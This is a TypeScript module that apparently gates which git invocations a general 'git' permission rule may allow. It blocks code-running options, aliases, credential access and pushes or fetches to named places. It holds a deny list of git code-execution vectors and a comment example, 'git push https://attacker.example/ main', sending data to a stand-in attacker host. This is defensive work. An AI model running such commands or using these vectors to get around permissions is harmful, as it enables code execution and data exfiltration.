// What a rule for `git` may cover: the subcommands and options of git-options.ts, none of the options that make
// git run other code (in any spelling git accepts), no `-c` but of a few harmless keys.
import { gitSubcommandGrammar, SAFE_CONFIG_KEYS } from './git-options';
import { parseOptions } from './option-grammar';
import { uncovered, type Uncovered } from './uncovered';

/** Global options (before the subcommand) that change nothing about what git runs; git.c takes no abbreviations. */
const SAFE_GLOBAL_OPTIONS = new Set([
  '--no-pager',
  '-P',
  '-p',
  '--paginate',
  '--no-replace-objects',
  '--literal-pathspecs',
  '--glob-pathspecs',
  '--noglob-pathspecs',
  '--icase-pathspecs',
  '--no-optional-locks',
  '--no-advice',
  '--version',
  '--help',
  '-h',
]);

/** git's built-in commands; anything else is an alias or an external `git-<name>` program. */
const BUILTIN_SUBCOMMANDS = new Set(
  (
    'add am annotate apply archive bisect blame branch bundle cat-file check-attr check-ignore check-mailmap ' +
    'check-ref-format checkout checkout-index cherry cherry-pick clean clone column commit commit-graph commit-tree ' +
    'count-objects describe diff diff-files diff-index diff-tree difftool fetch format-patch fsck gc ' +
    'get-tar-commit-id grep hash-object help index-pack init interpret-trailers log ls-files ls-remote ls-tree ' +
    'mailinfo mailsplit maintenance merge merge-base merge-file merge-tree mktag mktree mv name-rev notes ' +
    'pack-objects pack-refs prune pull push range-diff read-tree rebase reflog remote repack replace ' +
    'request-pull rerere reset restore rev-list rev-parse revert rm shortlog show show-branch show-ref ' +
    'sparse-checkout stash status stripspace submodule switch symbolic-ref tag unpack-objects update-index ' +
    'update-ref verify-commit verify-pack verify-tag version whatchanged worktree write-tree'
  ).split(' '),
);

/**
 * Built-ins that exist to run other programs or to change what git runs later: `config` can set
 * core.fsmonitor, core.pager, aliases or hooksPath; `credential` prints stored passwords.
 */
const CODE_SUBCOMMANDS = new Set(['config', 'credential', 'filter-branch', 'mergetool', 'for-each-repo', 'daemon', 'instaweb']);

/** Long options that name a program to run or a template/config to load, in any subcommand. */
const CODE_LONG_OPTIONS = [
  '--upload-pack',
  '--receive-pack',
  '--exec',
  '--extcmd',
  '--template',
  '--config',
  '--config-env',
  '--open-files-in-pager',
  '--tool',
  '--web',
  '--ext-diff',
  '--textconv',
  '--strategy',
  '--separate-git-dir',
  '--exec-path',
];

/** Short options (also inside clusters like `-qu`, or with a value attached) that run code, per subcommand. */
const CODE_SHORT_OPTIONS: Record<string, string> = {
  clone: 'uc',
  'ls-remote': 'u',
  rebase: 'xs',
  merge: 's',
  pull: 's',
  difftool: 'xt',
  grep: 'O',
  help: 'w',
};

/** Subcommand words after which the rest is a command to run. */
const CODE_ACTIONS: Record<string, string> = { bisect: 'run', submodule: 'foreach' };

/** Subcommands that talk to a remote: fine with the remotes the repository has, not with a place the command names. */
const NETWORK_SUBCOMMANDS = new Set(['fetch', 'pull', 'push', 'ls-remote']);

/** Their options whose value is the next word (`--depth 1`), skipped when looking for the repository argument. */
const VALUE_OPTIONS = new Set([
  '--depth', '--deepen', '--shallow-since', '--shallow-exclude', '-j', '--jobs', '-o', '--push-option', '--server-option',
  '--negotiation-tip', '--refmap', '--filter', '--recurse-submodules-default',
]);

/** Options naming the remote to use instead of a configured one. */
const REMOTE_OPTIONS = ['--repo', '--remote'];

/** A URL, a path or `host:path` / `user@host:path` (scp-style ssh): a place, not the name of a remote. */
const LOCATION = /:\/\/|^(?:\/|~|\.\.?(?:\/|$)|file:)|^[^\s/:]*@[^\s/]*:/;

/** `remote` and `submodule` actions that are only reading (others add or change where git fetches from). */
const READING_ACTIONS: Record<string, readonly string[]> = {
  remote: ['show', 'get-url', 'prune', 'update', 'rename', 'remove', 'rm', 'set-head', 'set-branches', '-v', '--verbose'],
  submodule: ['status', 'summary'],
};

/** Options that write their output to a file the command names. */
const OUTPUT_OPTIONS = ['--output', '--output-directory'];
const OUTPUT_SHORT: Record<string, string> = { 'format-patch': 'o', archive: 'o' };

/**
 * Why only an exact rule covers a call that sends to, fetches from or writes to a place the command names (a rule
 * for `git` would otherwise cover `git push https://attacker.example/ main`); undefined when a `git` rule may.
 */
function placeProblem(sub: string, args: readonly string[]): Uncovered | undefined {
  const shown = `git ${sub}`;
  if (sub === 'clone' || sub === 'bundle') return uncovered(sub === 'clone' ? 'network' : 'writes_file', shown);
  for (const arg of args) {
    if (arg === '--') break;
    if (OUTPUT_OPTIONS.some((o) => arg === o || arg.startsWith(`${o}=`))) return uncovered('writes_file', `${shown} ${arg}`);
    if (shortLetters(arg).some((c) => OUTPUT_SHORT[sub]?.includes(c))) return uncovered('writes_file', `${shown} ${arg}`);
    if (REMOTE_OPTIONS.some((o) => arg === o || arg.startsWith(`${o}=`))) return uncovered('network', `${shown} ${arg}`);
  }
  const action = args.find((a) => !a.startsWith('-') || a === '-v' || a === '--verbose');
  if (sub in READING_ACTIONS) {
    return action === undefined || READING_ACTIONS[sub]!.includes(action) ? undefined : uncovered('network', `${shown} ${action}`);
  }
  if (!NETWORK_SUBCOMMANDS.has(sub)) return undefined;
  let repository: string | undefined;
  for (let i = 0; i < args.length; i++) {
    const arg = args[i]!;
    if (arg === '--') break;
    if (VALUE_OPTIONS.has(arg)) {
      i++;
      continue;
    }
    if (arg.startsWith('-')) continue;
    // the first word is the repository (a remote's name; a ':' makes it host:path), later ones refspecs
    if (LOCATION.test(arg) || (repository === undefined && arg.includes(':'))) return uncovered('network', `${shown} ${arg}`);
    repository ??= arg;
  }
  return undefined;
}

/** The option letters of a short-option word: `-ix` → i, x; `-O"cmd"` → O, c, m, d (a value may follow a letter). */
export function shortLetters(arg: string): string[] {
  return /^-[A-Za-z]/.test(arg) ? [.../^-([A-Za-z]+)/.exec(arg)![1]!] : [];
}

/**
 * The code-running option a long option word is to git: the option itself, or (parse-options takes any unambiguous
 * prefix) one it abbreviates, unless the word is spelled out in full as a safe option of the subcommand.
 */
function longOption(arg: string, sub: string): string | undefined {
  if (!arg.startsWith('--') || arg.length < 3) return undefined;
  const name = arg.split('=')[0]!;
  const exact = CODE_LONG_OPTIONS.find((o) => o === name);
  if (exact) return exact;
  if (gitSubcommandGrammar(sub)?.long.get(name)?.verdict === 'safe') return undefined;
  const meant = CODE_LONG_OPTIONS.find((o) => o.startsWith(name));
  return meant === undefined ? undefined : `${name} (${meant})`;
}

/** `-c key=value` / `--config-env key=VAR`: why a rule does not cover it, unless the key is a harmless one. */
function configProblem(option: string, setting: string | undefined): Uncovered | undefined {
  const key = (setting ?? '').split('=')[0]!.toLowerCase();
  return SAFE_CONFIG_KEYS.has(key) ? undefined : uncovered('code_option', `git ${option}`);
}

/** Reads git's global options as git.c does; returns the index of the subcommand, or why no rule covers them. */
function globalOptions(argv: readonly string[]): { index: number } | { problem: Uncovered } {
  let i = 1;
  for (; i < argv.length && argv[i]!.startsWith('-'); i++) {
    const arg = argv[i]!;
    if (SAFE_GLOBAL_OPTIONS.has(arg)) continue;
    let problem: Uncovered | undefined;
    if (arg === '-c' || arg === '--config-env') problem = configProblem(arg, argv[++i]);
    else if (arg.startsWith('--config-env=')) problem = configProblem('--config-env', arg.slice('--config-env='.length));
    else problem = uncovered('code_option', `git ${arg}`);
    if (problem) return { problem };
  }
  return { index: i };
}

/**
 * undefined when a rule for `git` may cover this call; else why not: a never-covered code (code-running options,
 * aliases) or one only an exact rule covers (a place named to send to, fetch from or write to). `argv[0]` is `git`.
 */
export function gitProblem(argv: readonly string[]): Uncovered | undefined {
  const globals = globalOptions(argv);
  if ('problem' in globals) return globals.problem;
  const i = globals.index;
  const sub = argv[i];
  if (sub === undefined) return undefined;
  if (!BUILTIN_SUBCOMMANDS.has(sub) && !CODE_SUBCOMMANDS.has(sub)) return uncovered('git_alias', sub);
  if (CODE_SUBCOMMANDS.has(sub)) return uncovered('code_option', `git ${sub}`);
  const args = argv.slice(i + 1);
  const shorts = CODE_SHORT_OPTIONS[sub] ?? '';
  for (const arg of args) {
    if (arg === '--') break;
    const long = longOption(arg, sub);
    if (long) return uncovered('code_option', `git ${sub} ${long}`);
    if (shortLetters(arg).some((c) => shorts.includes(c))) {
      return uncovered('code_option', `git ${sub} ${arg}`);
    }
  }
  if (CODE_ACTIONS[sub] !== undefined && args.includes(CODE_ACTIONS[sub])) {
    return uncovered('code_option', `git ${sub} ${CODE_ACTIONS[sub]}`);
  }
  const place = placeProblem(sub, args);
  if (place) return place;
  const grammar = gitSubcommandGrammar(sub);
  if (!grammar) return uncovered('subcommand', `git ${sub}`);
  return parseOptions(args, grammar, `git ${sub}`).problem;
}
